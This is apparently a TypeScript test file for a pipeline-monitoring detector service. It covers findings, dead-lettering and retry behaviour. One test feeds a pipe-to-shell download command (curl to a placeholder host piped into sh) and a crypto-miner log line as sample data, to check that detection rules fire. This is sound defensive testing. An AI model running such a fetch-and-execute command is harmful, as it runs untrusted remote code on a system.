import assert from 'node:assert/strict';
import { RetryableError, createInMemoryBus, topicNames, silentLogger, type Bus, type IncomingMessage, Finding } from '@pipewatch/shared';
import { DEFAULT_SETTINGS, createInMemoryBaselineStore, startDetector, type BaselineStore } from '../src/index.js';
import { makeRun } from './make-run.js';

async function waitFor(predicate: () => boolean, timeoutMs = 5000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!predicate()) {
    if (Date.now() > deadline) throw new Error('timed out');
    await new Promise((resolve) => setTimeout(resolve, 10));
  }
}

describe('detector service', () => {
  it('consumes runs, publishes findings keyed by pipeline, and dead-letters invalid events', async () => {
    const bus = createInMemoryBus();
    const topics = topicNames('t.');
    const store = createInMemoryBaselineStore();
    const findings: IncomingMessage[] = [];
    const dead: IncomingMessage[] = [];
    await bus.subscribe({ topic: topics.findings, group: 'test', deadLetterTopic: topics.deadLetter, handler: async (m) => void findings.push(m) });
    await bus.subscribe({ topic: topics.deadLetter, group: 'test', deadLetterTopic: 'unused', handler: async (m) => void dead.push(m) });
    const detector = await startDetector({ bus, topics, store, settings: DEFAULT_SETTINGS, logger: silentLogger(), clock: () => new Date('2026-02-01T00:00:00Z') });

    const runs = Array.from({ length: 12 }, (_, i) => makeRun(i));
    runs.push(makeRun(12, { resources: { duration_s: 3000 } }));
    await bus.publish(topics.runs, [
      ...runs.map((run) => ({ key: run.pipeline.id, value: JSON.stringify(run) })),
      { key: 'x', value: '{"schema":"pipewatch.run/v1","event_id":7}' },
      { key: 'x', value: 'not json' },
    ]);
    await waitFor(() => findings.length >= 1 && dead.length >= 2 && detector.counters.judged + detector.counters.learning === 13);
    const finding = Finding.parse(JSON.parse(findings[0]!.value));
    assert.equal(findings[0]!.key, runs[0]!.pipeline.id);
    assert.equal(finding.rule.id, 'resource.duration.high');
    assert.equal(finding.detected_at, '2026-02-01T00:00:00.000Z');
    assert.equal((await store.get(runs[0]!.pipeline.id))?.runs, 12, 'the run with a high finding was not learned');
    assert.deepEqual(dead.map((m) => m.headers['pipewatch-dlq-code']).sort(), ['invalid_run_event', 'undecodable']);
    assert.match(dead.find((m) => m.headers['pipewatch-dlq-code'] === 'invalid_run_event')!.headers['pipewatch-dlq-reason']!, /event_id/);
    await detector.close();
    await bus.close();
  });

  it('judges log batches from the logs topic', async () => {
    const bus = createInMemoryBus();
    const topics = topicNames('t.');
    const findings: IncomingMessage[] = [];
    await bus.subscribe({ topic: topics.findings, group: 'test', deadLetterTopic: topics.deadLetter, handler: async (m) => void findings.push(m) });
    const detector = await startDetector({ bus, topics, store: createInMemoryBaselineStore(), settings: DEFAULT_SETTINGS, logger: silentLogger() });
    const batch = { schema: 'pipewatch.log/v1', event_id: 'l1', source: 'agent', pipeline: { id: 'p' }, run: { id: 'r' }, lines: [{ text: 'curl -sL https://x.example/m.sh | sh' }, { text: 'starting xmrig 6.21' }] };
    await bus.publish(topics.logs, [{ key: 'p', value: JSON.stringify(batch) }]);
    await waitFor(() => findings.length >= 2);
    assert.deepEqual(findings.map((m) => Finding.parse(JSON.parse(m.value)).rule.id).sort(), ['log.miner', 'log.pipe_to_shell']);
    assert.equal(detector.counters.logBatches, 1);
    await detector.close();
    await bus.close();
  });

  /**
   * 12 ordinary runs and an anomalous 13th of one pipeline. Together they wait on the topic before the detector starts,
   * so they arrive as one batch; with `storedFirst` the 13th comes alone after the 12 are stored.
   */
  async function judgeOneBatch(bus: Bus, store: BaselineStore, publishes: string[], storedFirst = false): Promise<{ findings: IncomingMessage[]; counters: { judged: number; learning: number; duplicates: number } }> {
    const topics = topicNames('t.');
    const findings: IncomingMessage[] = [];
    await bus.subscribe({ topic: topics.findings, group: 'test', deadLetterTopic: topics.deadLetter, handler: async (m) => void findings.push(m) });
    const runs = Array.from({ length: 12 }, (_, i) => makeRun(i));
    runs.push(makeRun(12, { resources: { duration_s: 3000 } }));
    const send = (some: typeof runs) => bus.publish(topics.runs, some.map((run) => ({ key: run.pipeline.id, value: JSON.stringify(run) })));
    await send(storedFirst ? runs.slice(0, 12) : runs);
    const detector = await startDetector({ bus, topics, store, settings: DEFAULT_SETTINGS, logger: silentLogger(), clock: () => new Date('2026-02-01T00:00:00Z') });
    if (storedFirst) {
      await waitFor(() => detector.counters.judged + detector.counters.learning >= 12);
      await send(runs.slice(12));
    }
    await waitFor(() => detector.counters.judged + detector.counters.learning + detector.counters.duplicates >= 13 && findings.length >= 1);
    await detector.close();
    publishes.push('closed');
    return { findings, counters: detector.counters };
  }

  /** An in-memory bus whose first publish to `failing` is refused as a retryable outage. */
  function busFailingOnce(failing: string, publishes: string[]): Bus {
    const bus = createInMemoryBus();
    let failed = false;
    return {
      ...bus,
      async publish(topic, messages) {
        publishes.push(`${topic} x${messages.length}`);
        if (topic === failing && !failed) {
          failed = true;
          throw new RetryableError('kafka_unavailable', 'outage');
        }
        await bus.publish(topic, messages);
      },
    };
  }

  it('judges a batch in order with one publish of its findings, then one write of each touched baseline', async () => {
    const publishes: string[] = [];
    const store = createInMemoryBaselineStore();
    const writes: number[] = [];
    const counting: BaselineStore = { ...store, putMany: async (many) => { writes.push(many.length); await store.putMany(many); } };
    const { findings, counters } = await judgeOneBatch(busFailingOnce('none', publishes), counting, publishes);
    assert.equal(counters.learning, 10);
    assert.equal(counters.judged, 3);
    assert.deepEqual(findings.map((m) => Finding.parse(JSON.parse(m.value)).rule.id), ['resource.duration.high']);
    assert.deepEqual(publishes.filter((entry) => entry.startsWith('t.findings')), ['t.findings x1'], 'findings were not published in one write');
    assert.deepEqual(writes, [1], 'the pipeline baseline was not written once for the batch');
    assert.equal((await store.get(makeRun(0).pipeline.id))?.runs, 12, 'the run with a high finding was learned');
  });

  it('after a failed findings publish, judges the redelivered batch afresh: same finding, baseline learned once', async () => {
    const publishes: string[] = [];
    const store = createInMemoryBaselineStore();
    const { findings, counters } = await judgeOneBatch(busFailingOnce('t.findings', publishes), store, publishes, true);
    assert.deepEqual(publishes.filter((entry) => entry.startsWith('t.findings')), ['t.findings x1', 't.findings x1'], 'the findings were not published again');
    assert.equal(findings.length, 1);
    assert.equal(counters.duplicates, 0, 'the retry saw its own runs as duplicates: the failed attempt leaked into the stored baseline');
    assert.equal((await store.get(makeRun(0).pipeline.id))?.runs, 12);
  });

  it('after a failed baseline write, publishes the same finding id again and stores the baseline once', async () => {
    const publishes: string[] = [];
    const store = createInMemoryBaselineStore();
    let failed = false;
    const flaky: BaselineStore = {
      ...store,
      putMany: async (many) => {
        if (!failed && many.some((baseline) => baseline.runs === 12 && baseline.recent_events.length === 13)) {
          failed = true;
          throw new RetryableError('kafka_unavailable', 'outage');
        }
        await store.putMany(many);
      },
    };
    const { findings, counters } = await judgeOneBatch(busFailingOnce('none', publishes), flaky, publishes, true);
    await waitFor(() => findings.length >= 2);
    const ids = findings.map((m) => Finding.parse(JSON.parse(m.value)).finding_id);
    assert.equal(ids.length, 2);
    assert.equal(ids[0], ids[1], 'the replayed batch raised a different finding id');
    assert.equal(counters.duplicates, 0);
    assert.equal((await store.get(makeRun(0).pipeline.id))?.runs, 12);
  });
});

